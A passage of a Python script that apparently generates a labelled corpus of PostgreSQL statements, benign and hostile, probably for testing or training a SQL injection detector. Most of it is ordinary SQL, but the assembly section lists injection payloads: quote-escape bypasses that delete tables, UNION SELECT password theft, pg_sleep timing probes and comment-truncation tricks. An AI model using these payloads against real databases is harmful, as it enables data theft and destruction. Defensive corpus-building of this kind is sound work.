            "START TRANSACTION READ ONLY; SET LOCAL statement_timeout = '%ds'; SELECT count(*) FROM eruptions; COMMIT" % r.randint(1, 60),
            "BEGIN; SELECT pg_advisory_xact_lock(%d); UPDATE freezer_stock SET tubs = tubs - 1 WHERE flavour = 'mango'; COMMIT" % n,
            "BEGIN; SET LOCAL ROLE tenant_cwm; SELECT * FROM treks WHERE trek_id = %d; COMMIT" % n,
            "BEGIN; SAVEPOINT s%d; DELETE FROM tasting_notes WHERE note_id = %d; ROLLBACK TO SAVEPOINT s%d; COMMIT" % (n, n, n)])

    @add("cx18_copy", "complex_copy_stdin")
    def _(r):
        return r.choice([
            "COPY race_results (race_id, camel_id, finish_s) FROM STDIN WITH (FORMAT csv, HEADER true, FORCE_NOT_NULL (finish_s))",
            "COPY eruption_obs (geyser_id, observed_at, water_temp_c) FROM STDIN (FORMAT binary)",
            "COPY (SELECT * FROM survey_dives WHERE wreck_id = %d) TO STDOUT WITH (FORMAT csv, HEADER, QUOTE '\"', ESCAPE '\\')" % r.randint(1, 400),
            "COPY gelato_batches FROM STDIN WITH (FORMAT text, DELIMITER E'\\t', NULL '', ENCODING 'UTF8')",
            "COPY culture_vial (strain_code, freezer_rack, location) FROM STDIN WITH (FORMAT csv, FREEZE false, DELIMITER ';')",
            "COPY (SELECT id, scent FROM soaps ORDER BY id LIMIT %d) TO STDOUT (FORMAT binary)" % r.randint(10, 5000)])

    @add("cx18_ddl", "complex_ddl_migration")
    def _(r):
        n = r.randint(1, 99)
        return r.choice([
            "CREATE TABLE mooring_bookings_%d (buoy int NOT NULL, during tstzrange NOT NULL, CONSTRAINT no_overlap_%d EXCLUDE USING gist (buoy WITH =, during WITH &&))" % (n, n),
            "CREATE TABLE nucleations_%d (id bigint GENERATED ALWAYS AS IDENTITY PRIMARY KEY, nucleus_mm numeric(4,1) CHECK (nucleus_mm > 0), seeded_at timestamptz DEFAULT now())" % n,
            "CREATE MATERIALIZED VIEW trek_stats_%d AS SELECT trek_date, count(*) AS treks FROM treks GROUP BY trek_date WITH DATA" % n,
            "CREATE UNIQUE INDEX CONCURRENTLY IF NOT EXISTS uq_camel_chip_%d ON camel (microchip) WHERE microchip IS NOT NULL" % n,
            "CREATE TYPE dive_gas_%d AS (o2 numeric, he numeric)" % n, "ALTER TABLE artifacts ADD CONSTRAINT artifacts_pct_%d CHECK (conserved_pct BETWEEN 0 AND 100) NOT VALID" % n])

    @add("cx18_introspection", "complex_orm_introspection")
    def _(r):
        return r.choice([
            "SELECT a.attname, format_type(a.atttypid, a.atttypmod), a.attnotnull FROM pg_attribute a WHERE a.attrelid = '%s'::regclass AND a.attnum > 0 AND NOT a.attisdropped ORDER BY a.attnum" % r.choice(["camel", "narrowboats", "looms", "sails"]),
            "SELECT enumlabel FROM pg_enum e JOIN pg_type t ON t.oid = e.enumtypid WHERE t.typname = '%s' ORDER BY e.enumsortorder" % r.choice(["hire_status", "cap_style", "gelato_base"]),
            "SELECT conname, pg_get_constraintdef(oid) FROM pg_constraint WHERE conrelid = '%s'::regclass" % r.choice(["artifacts", "mill_inspections", "mooring_slots"]),
            "SELECT polname, polcmd, pg_get_expr(polqual, polrelid) FROM pg_policy WHERE polrelid = 'public.%s'::regclass" % r.choice(["soap_orders", "scent_notes"])])

    @add("cx18_parameterized", "complex_parameterized")
    def _(r):
        return r.choice(["PREPARE lock_q_%d (text, int) AS SELECT * FROM lock_queue WHERE lock_name = $1 LIMIT $2" % r.randint(1, 99),
                         "EXECUTE lock_q_%d('Hatton 21', %d)" % (r.randint(1, 99), r.randint(1, 40)), "DEALLOCATE PREPARE lock_q_%d" % r.randint(1, 99)])

    @add("cx18_plpgsql", "complex_plpgsql_body")
    def _(r):
        n = r.randint(1, 99)
        return r.choice([
            "CREATE OR REPLACE FUNCTION soap_batches_for(p_oil text, p_min_cure_days int DEFAULT %d) RETURNS SETOF soap_batches LANGUAGE sql STABLE AS $f$ SELECT * FROM soap_batches WHERE oil = p_oil AND cure_days >= p_min_cure_days $f$" % n,
            "CREATE OR REPLACE FUNCTION trg_stock_floor_%d() RETURNS trigger LANGUAGE plpgsql AS $t$ BEGIN IF NEW.tubs < 0 THEN RAISE EXCEPTION 'stock for %% below zero', NEW.flavour; END IF; RETURN NEW; END $t$" % n,
            "DO $d$ DECLARE r record; BEGIN FOR r IN SELECT jobid FROM cron.job WHERE jobname LIKE 'tmp_%%' LOOP PERFORM cron.unschedule(r.jobid); END LOOP; END $d$",
            "CREATE PROCEDURE archive_dives_%d(cutoff date) LANGUAGE plpgsql AS $p$ BEGIN INSERT INTO dives_archive SELECT * FROM survey_dives WHERE dived_at < cutoff; DELETE FROM survey_dives WHERE dived_at < cutoff; COMMIT; END $p$" % n])

    @add("cx18_search", "complex_search_complex")
    def _(r):
        return r.choice([
            "SELECT vessel_name, ts_rank_cd(search_tsv, q) AS rank FROM wrecks, websearch_to_tsquery('english', $1) q WHERE search_tsv @@ q ORDER BY rank DESC LIMIT %d" % r.choice([10, 20]),
            "SELECT title FROM origami_models WHERE title %% $1 OR designer ILIKE '%%' || $1 || '%%' ORDER BY similarity(title, $1) DESC LIMIT %d" % r.choice([5, 15])])
    return G


# ---------------------------------------------------------------- regression-test-style statements (written for this file)
REGRESS_FIXED = [
    ("portals", "DECLARE foo18 SCROLL CURSOR FOR SELECT * FROM tenk1 ORDER BY unique2"), ("portals", "FETCH BACKWARD 3 IN foo18"), ("portals", "MOVE FORWARD ALL IN foo18"),
    ("portals", "FETCH ABSOLUTE -1 FROM foo18"), ("portals", "CLOSE ALL"), ("portals", "DECLARE c18 NO SCROLL CURSOR WITHOUT HOLD FOR SELECT 1"),
    ("matview", "CREATE MATERIALIZED VIEW mvtest18 AS SELECT type, sum(amt) AS totamt FROM mvtest_t GROUP BY type WITH NO DATA"),
    ("matview", "REFRESH MATERIALIZED VIEW mvtest18 WITH NO DATA"), ("matview", "ALTER MATERIALIZED VIEW mvtest18 RENAME TO mvtest18_renamed"),
    ("cluster", "CLUSTER clstr_tst18 USING clstr_tst18_c"), ("cluster", "CLUSTER VERBOSE"), ("cluster", "ALTER TABLE clstr_tst18 SET WITHOUT CLUSTER"),
    ("stats_ext", "CREATE STATISTICS ab18_stats (mcv) ON a, b FROM ab18"), ("stats_ext", "CREATE STATISTICS ab18_expr ON (a + b), (b * 2) FROM ab18"),
    ("stats_ext", "ALTER STATISTICS ab18_stats SET STATISTICS 500"), ("stats_ext", "DROP STATISTICS IF EXISTS ab18_stats"),
    ("rowsecurity", "ALTER TABLE document18 ENABLE ROW LEVEL SECURITY"), ("rowsecurity", "ALTER TABLE document18 FORCE ROW LEVEL SECURITY"),
    ("rowsecurity", "CREATE POLICY p18 ON document18 AS RESTRICTIVE FOR UPDATE TO regress_rls_bob USING (dauthor = current_user) WITH CHECK (dlevel <= 2)"),
    ("rowsecurity", "ALTER POLICY p18 ON document18 RENAME TO p18b"), ("rowsecurity", "DROP POLICY IF EXISTS p18b ON document18"),
    ("enum", "CREATE TYPE rainbow18 AS ENUM ('red', 'orange', 'yellow', 'green', 'blue', 'purple')"), ("enum", "ALTER TYPE rainbow18 ADD VALUE 'indigo' BEFORE 'purple'"),
    ("enum", "ALTER TYPE rainbow18 RENAME VALUE 'purple' TO 'violet'"), ("enum", "SELECT enum_range('orange'::rainbow18, 'blue'::rainbow18)"),
    ("enum", "SELECT enum_first(NULL::rainbow18), enum_last(NULL::rainbow18)"),
    ("domain", "CREATE DOMAIN posint18 AS int4 CHECK (VALUE > 0) NOT NULL"), ("domain", "ALTER DOMAIN posint18 ADD CONSTRAINT lt18 CHECK (VALUE < 1000) NOT VALID"),
    ("domain", "ALTER DOMAIN posint18 VALIDATE CONSTRAINT lt18"), ("domain", "SELECT 5::posint18 + 3"),
    ("identity", "CREATE TABLE itest18 (a int GENERATED ALWAYS AS IDENTITY, b text)"), ("identity", "INSERT INTO itest18 OVERRIDING SYSTEM VALUE VALUES (10, 'xyz')"),
    ("identity", "INSERT INTO itest18 (b) OVERRIDING USER VALUE VALUES ('abc')"), ("identity", "ALTER TABLE itest18 ALTER COLUMN a SET GENERATED BY DEFAULT"),
    ("identity", "ALTER TABLE itest18 ALTER COLUMN a RESTART WITH 100"),
    ("generated", "CREATE TABLE gtest18 (a int PRIMARY KEY, b int GENERATED ALWAYS AS (a * 2) STORED, c text GENERATED ALWAYS AS ('x' || a) STORED)"),
    ("generated", "ALTER TABLE gtest18 ALTER COLUMN b DROP EXPRESSION"),
    ("triggers", "CREATE TRIGGER trig18 AFTER INSERT OR UPDATE OF a ON main_table18 REFERENCING NEW TABLE AS new_rows FOR EACH STATEMENT EXECUTE FUNCTION trigger_func18()"),
    ("triggers", "CREATE CONSTRAINT TRIGGER ctrig18 AFTER DELETE ON main_table18 DEFERRABLE INITIALLY DEFERRED FOR EACH ROW EXECUTE PROCEDURE trigger_func18()"),
    ("triggers", "ALTER TABLE main_table18 DISABLE TRIGGER trig18"), ("triggers", "CREATE TRIGGER before_upd18 BEFORE UPDATE ON main_table18 FOR EACH ROW WHEN (OLD.a IS DISTINCT FROM NEW.a) EXECUTE FUNCTION trigger_func18()"),
    ("rules", "CREATE RULE rtest18_ins AS ON INSERT TO rtest18_v DO INSTEAD INSERT INTO rtest18_t VALUES (NEW.a, NEW.b)"),
    ("rules", "CREATE OR REPLACE RULE rtest18_upd AS ON UPDATE TO rtest18_v WHERE OLD.a > 10 DO ALSO NOTIFY rtest18"),
    ("rules", "ALTER RULE rtest18_ins ON rtest18_v RENAME TO rtest18_insert"),
    ("advisory_lock", "SELECT pg_advisory_lock(1), pg_advisory_lock_shared(2), pg_advisory_xact_lock(1, 1)"), ("advisory_lock", "SELECT pg_advisory_unlock_all()"),
    ("advisory_lock", "SELECT locktype, classid, objid, objsubid, mode, granted FROM pg_locks WHERE locktype = 'advisory' ORDER BY classid, objid"),
    ("merge", "MERGE INTO target18 t USING (VALUES (1, 10), (2, 20)) AS s(sid, delta) ON t.tid = s.sid WHEN MATCHED AND s.delta = 0 THEN DELETE WHEN MATCHED THEN UPDATE SET balance = balance + s.delta WHEN NOT MATCHED THEN INSERT (tid, balance) OVERRIDING USER VALUE VALUES (s.sid, s.delta)"),
    ("with", "WITH t18 AS (UPDATE parent18 SET val = val || '-upd' RETURNING *) DELETE FROM child18 USING t18 WHERE child18.pid = t18.id"),
    ("with", "WITH ins AS (INSERT INTO y18 VALUES (42) RETURNING *), del AS (DELETE FROM y18 WHERE a < 5 RETURNING *) SELECT (SELECT count(*) FROM ins), (SELECT count(*) FROM del)"),
    ("groupingsets", "SELECT a, b, sum(v) FROM gstest18 GROUP BY DISTINCT ROLLUP (a, b), ROLLUP (a, c)"),
    ("groupingsets", "SELECT a, b, grouping(a, b), count(*) FROM gstest18 GROUP BY CUBE (a, b) ORDER BY 3, 1, 2"),
    ("limit", "SELECT * FROM onek ORDER BY unique1 OFFSET 10 ROWS FETCH FIRST 5 ROWS ONLY"), ("limit", "SELECT * FROM onek ORDER BY unique1 LIMIT ALL OFFSET 990"),
    ("limit", "SELECT thousand FROM onek WHERE thousand < 5 ORDER BY thousand FETCH FIRST 2 ROW WITH TIES"),
    ("select_into", "SELECT * INTO TABLE sitmp18 FROM onek WHERE onek.unique1 < 2"), ("select_into", "CREATE TABLE ctas18 AS SELECT 1 AS a WITH NO DATA"),
    ("truncate", "TRUNCATE trunc_a18, trunc_b18 RESTART IDENTITY CASCADE"), ("truncate", "TRUNCATE ONLY trunc_parent18 CONTINUE IDENTITY"),
    ("updatable_views", "CREATE VIEW rw_view18 AS SELECT a, b FROM base_tbl18 WHERE a > 0 WITH LOCAL CHECK OPTION"),
    ("updatable_views", "CREATE RECURSIVE VIEW nums18 (n) AS VALUES (1) UNION ALL SELECT n + 1 FROM nums18 WHERE n < 5"),
    ("sequence", "CREATE SEQUENCE seq18 AS smallint INCREMENT BY -2 MINVALUE -100 MAXVALUE 10 START WITH 10 CYCLE"), ("sequence", "SELECT setval('seq18', 4, false)"),
    ("sequence", "ALTER SEQUENCE seq18 OWNED BY NONE"), ("sequence", "SELECT last_value, log_cnt, is_called FROM seq18"),
    ("alter_table", "ALTER TABLE parted18 DETACH PARTITION parted18_1 CONCURRENTLY"), ("alter_table", "ALTER TABLE parted18 ATTACH PARTITION parted18_def DEFAULT"),
    ("alter_table", "ALTER TABLE atacc18 ADD CONSTRAINT atacc18_u UNIQUE NULLS NOT DISTINCT (a)"), ("alter_table", "ALTER TABLE atacc18 ALTER COLUMN b SET COMPRESSION pglz"),
    ("alter_table", "ALTER TABLE atacc18 REPLICA IDENTITY FULL"), ("alter_table", "ALTER TABLE atacc18 SET ACCESS METHOD heap"),
    ("create_index", "CREATE INDEX gin_idx18 ON array_index_op_test18 USING gin (i) WITH (fastupdate = off)"), ("create_index", "REINDEX (CONCURRENTLY, VERBOSE) INDEX gin_idx18"),
    ("create_index", "CREATE INDEX brin_idx18 ON brintest18 USING brin (int4col int4_minmax_multi_ops(values_per_range = 16))"),
    ("xml", "SELECT xmlelement(name foo, xmlattributes('x' AS bar), xmlforest(1 AS a, 'b' AS b))"), ("xml", "SELECT xmlagg(xmlelement(name n, g)) FROM generate_series(1, 3) g"),
    ("xml", "SELECT xpath('//b/text()', '<a><b>1</b><b>2</b></a>')"), ("xml", "SELECT xmlserialize(content xmlcomment('regress') AS text)"),
    ("xml", "SELECT * FROM XMLTABLE('/rows/row' PASSING xml '<rows><row><a>1</a></row></rows>' COLUMNS a int PATH 'a')"),
    ("json", "SELECT json_object('{a,1,b,2}')"), ("json", "SELECT row_to_json(row(1, 'foo'))"), ("json", "SELECT json_build_array(1, 2, 'three', NULL)"),
    ("json", "SELECT '{\"a\": [1, 2]}'::json #> '{a,1}'"), ("json", "SELECT json_typeof('[]'), jsonb_typeof('{}')"),
    ("copy2", "COPY x18 (a, b) FROM STDIN WITH (FORMAT csv, FORCE_NULL (b))"), ("copy2", "COPY x18 TO STDOUT (FORMAT binary)"),
    ("copy2", "COPY (SELECT * FROM x18 ORDER BY a) TO STDOUT WITH (FORMAT csv, FORCE_QUOTE (b), HEADER)"),
    ("subselect", "SELECT * FROM int4_tbl o WHERE (f1, f1) IN (SELECT f1, generate_series(1, 50) / 10 g FROM int4_tbl i GROUP BY f1)"),
    ("subselect", "SELECT ss.f1 FROM int4_tbl t, LATERAL (SELECT t.f1 LIMIT 1 OFFSET 0) ss WHERE ss.f1 > 0"),
    ("join", "SELECT * FROM j1_tbl18 FULL JOIN j2_tbl18 USING (i) AS x WHERE x.i IS NOT NULL"), ("join", "SELECT * FROM j1_tbl18 NATURAL LEFT JOIN j2_tbl18"),
    ("union", "SELECT 1 AS two UNION SELECT 2 ORDER BY 1"), ("union", "(SELECT 1, 2) INTERSECT ALL (SELECT 1, 2) EXCEPT ALL (SELECT 3, 4)"),
    ("txid", "SELECT pg_current_xact_id_if_assigned() IS NULL"), ("txid", "SELECT pg_xact_status(pg_current_xact_id())"),
    ("uuid", "SELECT gen_random_uuid() IS NOT NULL"), ("uuid", "SELECT '11111111-1111-1111-1111-111111111111'::uuid < '22222222-2222-2222-2222-222222222222'::uuid"),
]


def regress_rows(r):
    out, add = regress_list("regress18", REGRESS_FIXED)
    for _ in range(30):
        a, b = r.randint(-999, 999), r.randint(1, 64)
        add("float8", r.choice(["SELECT %d::float8 / %d" % (a, b), "SELECT cbrt(%d::float8)" % a, "SELECT float8 '%de%d'" % (a, b % 30), "SELECT sind(%d), cosd(%d)" % (a, a),
                                "SELECT atan2d(%d, %d)" % (a, b), "SELECT round(%d.5::float8)" % a, "SELECT '%d.%d'::float4 = '%d.%d'::float8" % (b, b, b, b),
                                "SELECT float8 'NaN' = float8 'NaN', %d::float8 < 'Infinity'" % a, "SELECT log(%d::float8)" % b]))
    for _ in range(25):
        a, b = r.randint(0, 255), r.randint(1, 16)
        add("bit", r.choice(["SELECT B'%s' & B'%s'" % (format(a, "08b"), format(255 - a, "08b")), "SELECT X'%02X'::bit(8) >> %d" % (a, b % 8),
                             "SELECT get_bit(B'%s', %d)" % (format(a, "08b"), b % 8), "SELECT bit_length(B'%s')" % format(a, "b"),
                             "SELECT %d::bit(%d)" % (a, b + 8), "SELECT overlay(B'%s' PLACING B'11' FROM 2 FOR 2)" % format(a, "08b"),
                             "SELECT B'%s'::varbit || B'101'" % format(a, "b")]))
    for _ in range(25):
        a, b = r.randint(0, 50), r.randint(1, 50)
        add("geometry", r.choice(["SELECT point '(%d,%d)' + point '(1,1)'" % (a, b), "SELECT box '(%d,%d),(0,0)' # box '(1,1),(%d,%d)'" % (a + 2, b + 2, a + 5, b + 5),
                                  "SELECT center(circle '<(%d,%d),%d>')" % (a, b, b), "SELECT polygon '((0,0),(%d,0),(%d,%d))' @> point '(1,1)'" % (a + 3, a + 3, b + 3),
                                  "SELECT line '{1,-1,%d}' ?|| line '{1,-1,0}'" % a, "SELECT diameter(circle '((0,0),%d)')" % b, "SELECT npoints(path '[(0,0),(%d,%d),(%d,0)]')" % (a, b, b),
                                  "SELECT point '(%d,%d)' <-> lseg '((0,0),(10,10))'" % (a, b)]))
    for _ in range(25):
        w = rword(r, r.randint(3, 7))
        add("tstypes", r.choice(["SELECT '%s:1A %s:2B'::tsvector" % (w, w[::-1]), "SELECT to_tsvector('simple', '%s %s') @@ '%s & !zz'::tsquery" % (w, w[:2], w),
                                 "SELECT setweight(to_tsvector('english', '%s'), 'A')" % w, "SELECT ts_rewrite('%s & b'::tsquery, '%s', 'c')" % (w, w),
                                 "SELECT tsquery_phrase('%s'::tsquery, 'x'::tsquery, %d)" % (w, r.randint(1, 5)), "SELECT numnode('%s | (b & c)'::tsquery)" % w,
                                 "SELECT strip('%s:1,2 x:3'::tsvector)" % w, "SELECT ts_delete('%s:1 y:2'::tsvector, 'y')" % w]))
    for _ in range(25):
        a, b = r.randint(0, 9999), r.randint(1, 99)
        add("money", r.choice(["SELECT '%d.%02d'::money * %d" % (a, b, b % 7 + 1), "SELECT '%d'::money / %d" % (a, b), "SELECT cash_words('%d.%02d'::money)" % (a, b),
                               "SELECT %d::numeric::money" % a, "SELECT '$%d.%02d'::money > '$%d.00'::money" % (a, b, a)]))
    for _ in range(30):
        a, b = r.randint(1, 99), r.randint(1, 500)
        add("interval", r.choice(["SELECT interval '%d days %d hours' * %d" % (a, b % 24, b % 9 + 1), "SELECT interval 'P%dY%dM'" % (a % 10, b % 12),
                                  "SELECT interval '%d:%02d:%02d' / %d" % (a, b % 60, a % 60, b % 5 + 1), "SELECT justify_days(interval '%d days')" % b,
                                  "SELECT extract(epoch FROM interval '%d minutes %d seconds')" % (a, b % 60), "SELECT interval '%d' HOUR TO MINUTE" % (a * 60),
                                  "SELECT interval '-%d days' < interval '0'" % a, "SELECT make_interval(weeks => %d, hours => %d)" % (a % 10, b % 24)]))
    for _ in range(25):
        h, m = r.randint(0, 23), r.randint(0, 59)
        add("timetz", r.choice(["SELECT time with time zone '%02d:%02d-07' + interval '%d min'" % (h, m, r.randint(1, 600)), "SELECT '%02d:%02d:00+05:30'::timetz AT TIME ZONE 'UTC'" % (h, m),
                                "SELECT time '%02d:%02d' - time '00:30'" % (h, m), "SELECT date_part('hour', timetz '%02d:%02d PST')" % (h % 12 + 1, m),
                                "SELECT make_time(%d, %d, %d.5)" % (h, m, r.randint(0, 59)), "SELECT localtime(%d) IS NOT NULL" % r.randint(0, 6)]))
    for _ in range(25):
        w = rword(r, r.randint(2, 9))
        add("text", r.choice(["SELECT concat_ws('/', '%s', NULL, %d)" % (w, r.randint(1, 99)), "SELECT reverse('%s')" % w, "SELECT to_hex(%d)" % r.randint(0, 2 ** 31),
                              "SELECT md5('%s') = md5('%s')" % (w, w), "SELECT lpad('%s', %d, '*')" % (w, r.randint(1, 12)), "SELECT format('|%%-10s|', '%s')" % w,
                              "SELECT rpad('%s', %d)" % (w, r.randint(1, 12)), "SELECT encode('%s'::bytea, 'base64')" % w, "SELECT btrim('xx%sxx', 'x')" % w,
                              "SELECT string_agg(x, ',' ORDER BY x DESC) FROM (VALUES ('%s'), ('%s')) v(x)" % (w, w[::-1])]))
    for _ in range(20):
        a = r.randint(1, 999)
        add("case", r.choice(["SELECT CASE WHEN %d %% 2 = 0 THEN 'even' ELSE 'odd' END" % a, "SELECT CASE %d WHEN 1 THEN 'one' WHEN 2 THEN 'two' END" % (a % 3),
                              "SELECT COALESCE(NULLIF(%d, %d), 0)" % (a, a), "SELECT GREATEST(%d, %d, NULL), LEAST(%d, NULL)" % (a, a // 2, a)]))
    for _ in range(25):
        a, b = r.randint(1, 99), r.randint(1, 9)
        add("aggregates", r.choice(["SELECT bit_and(i), bit_or(i), bit_xor(i) FROM generate_series(1, %d) i" % a, "SELECT every(i > %d) FROM generate_series(1, 10) i" % b,
                                    "SELECT regr_slope(y, x) FROM (VALUES (1, %d), (2, %d)) v(x, y)" % (a, a + b), "SELECT mode() WITHIN GROUP (ORDER BY i %% %d) FROM generate_series(1, %d) i" % (b + 1, a),
                                    "SELECT array_agg(i ORDER BY i DESC) FILTER (WHERE i > %d) FROM generate_series(1, 20) i" % (a % 20),
                                    "SELECT var_samp(i), stddev_pop(i) FROM generate_series(1, %d) i" % (a + 1), "SELECT any_value(i) IS NOT NULL FROM generate_series(1, %d) i" % a if False else
                                    "SELECT range_agg(int4range(i, i + %d)) FROM generate_series(1, %d, 5) i" % (b, a)]))
    return out


# ---------------------------------------------------------------- assembly
OBF_BASES = ["tautology", "stacked", "union", "time_pg_sleep", "boolean_blind", "error_cast", "oob_file_program", "string_concat_subquery",
             "plpgsql_do_exec", "dollar_quote", "e_escape", "sqlmap", "sqlmap"]
KIND_FAMILY = {"date": "input_formatted", "ts": "input_formatted", "interval": "input_formatted", "duration": "input_formatted", "jpath": "input_formatted",
               "jkey": "input_plain", "email": "input_url_email", "appname": "input_formatted", "cron": "input_formatted", "jobsql": "input_sql_words"}
TRUNC_STYLES = [("dashdash_plus", "--+"), ("dashdash_space_hash", "-- #"), ("semicolon_dashdash", ";--"), ("semicolon_space_dashdash", "; --"),
                ("triple_dash", "---"), ("four_dash", "----"), ("dashdash_slash", "--/"), ("dashdash_backslash", "--\\"), ("dashdash_star", "--*"),
                ("dashdash_question", "--?"), ("bang_block_open", "/*!"), ("block_then_dashdash_text", "/*x*/-- x"), ("dashdash_formfeed", "--\f"),
                ("nul_byte", "\x00"), ("nul_byte", "\x00"), ("semicolon_nul_byte", ";\x00"), ("dashdash_upper_word", None)]
BYPASS = [("addslashes_into_standard_string", "t18_sqlmodel_camels", "a", "Al Wathba' OR 1=1 -- ", addslashes),
          ("doubling_into_e_string", "t18_jdbi_dye_recipe", "d", "\\'); DELETE FROM dye_recipes; -- ", double_quotes),
          ("backslash_quote_into_standard_string", "t18_appsmith_wreck_search", "a", "x' UNION SELECT callsign, pw, NULL FROM dive_team -- ", backslash_quotes),
          ("addslashes_into_standard_string", "t18_retool_artifact_update", "a", "stable', public = true -- ", addslashes),
          ("backslash_quote_into_standard_string", "t18_pgcron_unschedule", "a", "x'); SELECT pg_sleep(5); -- ", backslash_quotes),
          ("doubling_into_e_string", "t18_jdbi_dye_recipe", "d", "\\' || (SELECT string_agg(pw, ',') FROM dive_team)) -- ", double_quotes)]
# attack-looking strings PostgreSQL does not read as quotes or escapes where they land: typographic and fullwidth
# apostrophes, and \x27 / \u0027 spelled out as text (no E'' prefix, or escaped for one) -- they stay data
LOOKALIKES = [("Ｏ＇Ｒｅｉｌｌｙ＇ OR ＇1＇=＇1", "lookalike:fullwidth_apostrophe"), ("x’ OR 1=1 --", "lookalike:right_single_quote"),
              ("ʼ OR ʼ1ʼ=ʼ1", "lookalike:modifier_letter_apostrophe"), ("＇ UNION SELECT passwd FROM pg_shadow --", "lookalike:fullwidth_union"),
              ("\\x27; DROP TABLE treks; --", "lookalike:hex_escape_text"), ("\\u0027 OR 1=1 --", "lookalike:unicode_escape_text"),
              ("\\047) OR (1=1", "lookalike:octal_escape_text"), ("‛; SELECT pg_sleep(10); --", "lookalike:reversed_quote")]


def truncation_style(r):
    style, c = r.choice(TRUNC_STYLES)
    return style, c if c is not None else "--" + rword(r, r.randint(2, 6), upper=True)


TRUNCATION = {"style": truncation_style, "origs": ["admin", "", "guest", "0"], "spaces": ["", " ", "  ", "\t", "\f"]}


def numeric_value(r):
    return r.choice([str(r.randint(0, 9999)), str(r.randint(1, 90)), "%d.%d" % (r.randint(0, 800), r.randint(0, 9)), str(r.randint(10 ** 4, 10 ** 8)),
                     "1", "-%d" % r.randint(1, 60), "%d.25" % r.randint(1, 50), "%dE%d" % (r.randint(1, 9), r.randint(1, 2)), "0.%02d" % r.randint(1, 99)])


def numeric_refused(tpl, slot, val):
    """No sign, fraction, exponent or long number where only a small count, an offset or an id goes."""
    si = slot_info(tpl, slot)
    strict = si["in_limit"] or si["subscript"] or si["frame"] or si["lead"] == "FETCH" or tpl[0] in (
        "t18_sqlcfb_fuel_override", "t18_pgnio_advisory", "t18_pgss_reset", "t18_sqlcfb_booking_values")
    return strict and (val.startswith("-") or "." in val or "E" in val or len(val) > 7)


def formatted_value(r):
    return r.choice(["NB-%04d" % r.randint(1, 9999), "LOCK %d/%s" % (r.randint(1, 60), r.choice("ABC")), "%d.%d cm" % (r.randint(0, 99), r.randint(0, 9)),
                     "%d%% overrun" % r.randint(10, 60), "T+%02d:%02d" % (r.randint(0, 23), r.randint(0, 59)), "Grade %s" % r.choice(["A", "AA", "AAA", "B+"]),
                     "%d°%02d′%s" % (r.randint(0, 89), r.randint(0, 59), r.choice("NSEW")), "CAM-%s-%d" % (rword(r, 3, upper=True), r.randint(1, 99))])


def input_value(r, fam, groups):
    kinds = [(t, k) for t, k in groups.typed if KIND_FAMILY[kind(t, k)] == fam]
    if kinds and r.random() < 0.45:
        return typed_input(r, kinds, fam, typed_value)
    if fam == "input_numeric":
        return number_input(r, groups.numeric, [", ", ",", " ,"], 90000, 5, numeric_value, numeric_refused)
    if fam == "input_identifier":
        return identifier_input(r, groups.identifier, CANON)
    return text_input(r, groups.string, fam, POOLS, SENTS, formatted_value, 0.3, ("input_plain", "input_unicode", "input_apostrophe_names", "input_sql_words"))


def main():
    corpus = SlotCorpus(random.Random(SEED), load_earlier(HERE, EARLIER), T, CLOSER, render, ref_skeletons, slot_info, dollar_safe(TAG, runs_into=True))
    corpus.attacks(SQLMAP, hand, OBF_BASES, obfuscate, TRUNCATION, BYPASS)
    corpus.payloads += LOOKALIKES * 15
    corpus.benign_rows(input_value, complex_gens(), regress_rows)
    corpus.write(HERE, "f18-%06d", "eighteenth")


if __name__ == "__main__":
    main()
